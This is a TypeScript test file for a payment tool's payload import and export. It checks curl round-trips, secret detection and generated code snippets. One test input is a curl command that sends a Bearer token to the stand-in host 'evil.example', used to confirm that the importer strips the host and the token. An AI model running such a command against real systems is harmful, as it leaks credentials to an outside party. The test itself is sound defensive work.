import { spawnSync } from 'node:child_process'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createRedactor } from '../../../../core/evidence/redactor.ts'
import { KlaviError } from '../../../../core/failure.ts'
import type { Environment } from '../../../../core/model/environment.ts'
import { exportPayload } from '../../../../core/payments/export.ts'
import { importPayload } from '../../../../core/payments/import.ts'

const environment: Environment = {
  id: 'sandbox',
  kind: 'sandbox',
  name: 'Sandbox',
  origin: 'https://api-testing.klavi.ai',
  prefix: '/payment/customer/v1',
  dialect: 'g1',
}

/** No secret is known here. */
const asItIs = (text: string): string => text

describe('curl → payload → curl', () => {
  it('goes round, byte for byte, for any payload', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.constantFrom(undefined, 2), (value, indent) => {
        const text = JSON.stringify(value, null, indent)
        const line = exportPayload(environment, text, 'curl').text
        const imported = importPayload(line, asItIs)
        expect(imported).toMatchObject({ kind: 'curl', shell: 'posix', text })
        expect(exportPayload(environment, imported.text, 'curl').text).toBe(line)
      }),
      { numRuns: 300 },
    )
  })
})

describe('importPayload', () => {
  it('keeps of a line its body only, and says what it left out', () => {
    const { text, notes, dialect } = importPayload(
      `curl https://evil.example/x -H 'Authorization: Bearer abcdef' -d '{"participantId":"p","externalId":"e"}'`,
      asItIs,
    )
    expect(text).toBe('{"participantId":"p","externalId":"e"}')
    expect(dialect).toBe('g1')
    expect(notes.join(' ')).toContain('evil.example')
    expect(JSON.stringify([text, notes])).not.toContain('abcdef')
  })

  it('takes JSON as it is', () => {
    expect(importPayload('\uFEFF{ "a" : 1 }', asItIs)).toEqual({
      kind: 'json',
      text: '{ "a" : 1 }',
      notes: [],
    })
  })

  it.each([
    ['JSON', (body: string) => body],
    ['a curl line', (body: string) => `curl https://h.example/auth -d '${body}'`],
  ])('says of %s that its body holds a key', (_what, line) => {
    const { text } = createRedactor()
    const { notes } = importPayload(line('{"accessKey":"an-access-key","secretKey":"s"}'), text)
    expect(notes.join(' ')).toContain('looks like a key')
    expect(importPayload(line('{"amount":"4800"}'), text).notes.join(' ')).not.toContain('a key')
  })

  it.each(['', 'hello', '{"a":', 'curl https://h', 'curl https://h -d @body.json'])(
    'refuses %j with a reason',
    (text) => {
      expect(() => importPayload(text, asItIs)).toThrow(KlaviError)
    },
  )
})

const python = ['python3', 'python'].find(
  (name) => spawnSync(name, ['--version'], { encoding: 'utf8' }).status === 0,
)

describe('exportPayload', () => {
  const body = `{\n  "name": "José's \\"shop\\" \${x} 100%",\n  "emoji": "💸"\n}`

  it.each(['curl', 'fetch', 'python', 'java', 'csharp'] as const)(
    'writes %s with the token as a named variable, and the whole body in it',
    (form) => {
      const { text, variables } = exportPayload(environment, body, form)
      expect(variables).toEqual(['KLAVI_ACCESS_TOKEN'])
      expect(text).toContain('KLAVI_ACCESS_TOKEN')
      expect(text).toContain('https://api-testing.klavi.ai/payment/customer/v1/payments')
      if (form === 'curl' || form === 'python') return
      // Every language reads these literals alike: put together they are the body.
      const literals = [...text.matchAll(/^ +("(?:[^"\\]|\\.)*")(?: \+)?;?,?$/gm)]
        .map((one) => JSON.parse(one[1] ?? '') as string)
        .filter((one) => !one.startsWith('https:'))
      expect(literals.join('')).toBe(body)
    },
  )

  it.skipIf(python === undefined)('is read by Python as it is written', () => {
    const { text } = exportPayload(environment, body, 'python')
    const literals = /data=(\([^]*\))\.encode/.exec(text)?.[1] ?? ''
    const script = `import sys; sys.stdout.buffer.write(${literals.replace(/\s*\n\s*/g, ' ')}.encode("utf-8"))`
    const { stdout } = spawnSync(python ?? '', ['-c', script], { encoding: 'utf8' })
    expect(stdout).toBe(body)
  })

  it('writes what Python reads as one character as one', () => {
    const { text } = exportPayload(environment, body, 'python')
    expect(text).toContain('\\U0001f4b8')
    expect(text).not.toContain('\\ud83d')
  })

  it.each([
    ['curl', `"$KLAVI_SECRET_KEY"`],
    ['fetch', 'process.env.KLAVI_SECRET_KEY'],
    ['python', `os.environ['KLAVI_SECRET_KEY']`],
    ['java', 'System.getenv("KLAVI_SECRET_KEY")'],
    ['csharp', 'Environment.GetEnvironmentVariable("KLAVI_SECRET_KEY")'],
  ] as const)('names a variable in %s where a secret was', (form, variable) => {
    const made = exportPayload(environment, '{"secretKey":"[redacted]","a":"b"}', form)
    expect(made.text).toContain(variable)
    expect(made.text).not.toContain('[redacted]')
    expect(made.variables).toEqual(['KLAVI_ACCESS_TOKEN', 'KLAVI_SECRET_KEY'])
  })

  it('runs in JavaScript as it is written', async () => {
    const { text } = exportPayload(environment, body, 'fetch')
    const script = text.replace(': Response', '')
    const sent: { url: string; options: { body: string; headers: Record<string, string> } }[] = []
    const run = new Function(
      'fetch',
      'console',
      'process',
      `return (async () => { ${script} })()`,
    ) as (...given: unknown[]) => Promise<void>
    await run(
      async (url: string, options: never) => {
        sent.push({ url, options })
        return { status: 200, text: async () => '' }
      },
      { log: () => undefined },
      { env: { KLAVI_ACCESS_TOKEN: 't' } },
    )
    expect(sent[0]?.options.body).toBe(body)
    expect(sent[0]?.options.headers['Authorization']).toBe('Bearer t')
  })
})
